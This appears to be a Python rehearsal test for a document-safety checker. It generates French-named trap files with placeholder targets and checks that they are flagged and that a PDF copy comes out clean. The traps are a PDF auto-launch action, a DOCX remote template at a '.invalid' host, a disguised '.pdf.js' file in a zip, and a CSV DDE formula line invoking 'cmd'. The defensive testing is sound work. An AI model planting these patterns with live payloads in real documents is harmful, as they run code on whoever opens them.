"""The Trojan form, played for real: an official-looking form that acts is found, and copied safely.

The forms are made here, another one each time, and none of them harms: the program they would start
is named and not there, every address ends in `.invalid`.
"""

import io
import secrets
import time
import zipfile
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from vigie.domain.finding import Gravity
from vigie.routines.documents.checking import DocumentChecker
from vigie.routines.documents.copying import Copier
from vigie.routines.rehearsals.rehearsal import Stage, Trial

_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG = "http://schemas.openxmlformats.org/package/2006"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def play(stage: Stage) -> Iterator[Trial]:
    """Put forms down that act, and forms that do not; yield how each was judged, and the copy."""
    mark = secrets.token_hex(4)
    with DocumentChecker(cells=1) as checker:
        began = time.monotonic()
        traps = {name: make(mark) for name, make in _TRAPS.items()}
        red = [_light(checker, stage.scratch / name, content) for name, content in traps.items()]
        passed = milliseconds(began)
        own = [_light(checker, stage.scratch / name, make(mark)) for name, make in _OWN.items()]
        yield Trial(
            name="trap_found",
            held=set(red) == {Gravity.ALARM} and set(own) == {Gravity.NOTE},
            numbers={"files": len(red), "ordinary": len(own), "milliseconds": passed},
        )
        yield _copied(checker, traps["Formulaire de remboursement.pdf"])


def milliseconds(began: float) -> int:
    """Return how long it is since `began` on the monotonic clock."""
    return round((time.monotonic() - began) * 1000)


def _light(checker: DocumentChecker, path: Path, content: bytes) -> Gravity:
    path.write_bytes(content)
    return checker.check(path).light


def _copied(checker: DocumentChecker, trap: bytes) -> Trial:
    """Copy the form: it must be clean, and keep its pages and the field people write in."""
    began = time.monotonic()
    copy = Copier(checker).copy(trap, "formulaire.pdf", ending="pdf")
    with pikepdf.open(io.BytesIO(copy.content)) as pdf:
        fields = len(pdf.Root.AcroForm.Fields) if "/AcroForm" in pdf.Root else 0
        held = len(pdf.pages) == 1 and fields == 1 and "/OpenAction" not in pdf.Root
    return Trial(
        name="copy_is_safe",
        held=held,
        numbers={"fields": fields, "milliseconds": milliseconds(began)},
    )


def _form(mark: str, *, acts: bool) -> bytes:
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        page = pdf.pages[0].obj
        field = pdf.make_indirect(
            Dictionary(
                Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String(f"NIR {mark}"),
                Rect=Array([50, 700, 300, 720]),
            )
        )  # fmt: skip
        format_ = String("AFNumber_Format(2, 2, 0, 0, '', false);")
        field.AA = Dictionary(F=Dictionary(S=Name.JavaScript, JS=format_))
        page.Annots = Array([field])
        pdf.Root.AcroForm = pdf.make_indirect(Dictionary(Fields=Array([field])))
        pdf.Root.OpenAction = Array([page, Name.Fit])
        if acts:
            start = Dictionary(S=Name.Launch, F=String(f"vigie-{mark}.exe"))
            pdf.Root.OpenAction = pdf.make_indirect(start)
        out = io.BytesIO()
        pdf.save(out)
        return out.getvalue()


def _letter(mark: str, template: str = "") -> bytes:
    types = (
        f'<Types xmlns="{_PKG}/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{_MAIN}"/></Types>'
    )
    body = f"<w:body><w:p><w:r><w:t>Remboursement {mark}</w:t></w:r></w:p></w:body>"
    row = '<Relationship Id="r1" Type="{0}/{1}" Target="{2}"{3}/>'
    away = row.format(_REL, "attachedTemplate", template, ' TargetMode="External"')
    space = f'<Relationships xmlns="{_PKG}/relationships">'
    main = row.format(_REL, "officeDocument", "word/document.xml", "")
    return _zipped(
        {
            "[Content_Types].xml": types,
            "_rels/.rels": f"{space}{main}</Relationships>",
            "word/document.xml": f'<w:document xmlns:w="{_WORD}">{body}</w:document>',
            "word/_rels/document.xml.rels": f"{space}{away if template else ''}</Relationships>",
        }
    )


def _zipped(parts: Mapping[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return out.getvalue()


_TRAPS: Mapping[str, Callable[[str], bytes]] = {
    "Formulaire de remboursement.pdf": lambda mark: _form(mark, acts=True),
    "Feuille de soins.docx": lambda mark: _letter(mark, f"http://{mark}.invalid/modele.dotm"),
    "Pieces.zip": lambda mark: _zipped({f"facture-{mark}.pdf.js": f"// {mark}"}),
    "Decompte.csv": lambda mark: f"acte;total\n=cmd|'/C vigie-{mark}'!A0;1\n".encode(),
}
_OWN: Mapping[str, Callable[[str], bytes]] = {
    "Cerfa.pdf": lambda mark: _form(mark, acts=False),
    "Courrier.docx": _letter,
    "Comptes.csv": lambda mark: f"acte;total\n{mark};-25,00\n".encode(),
}
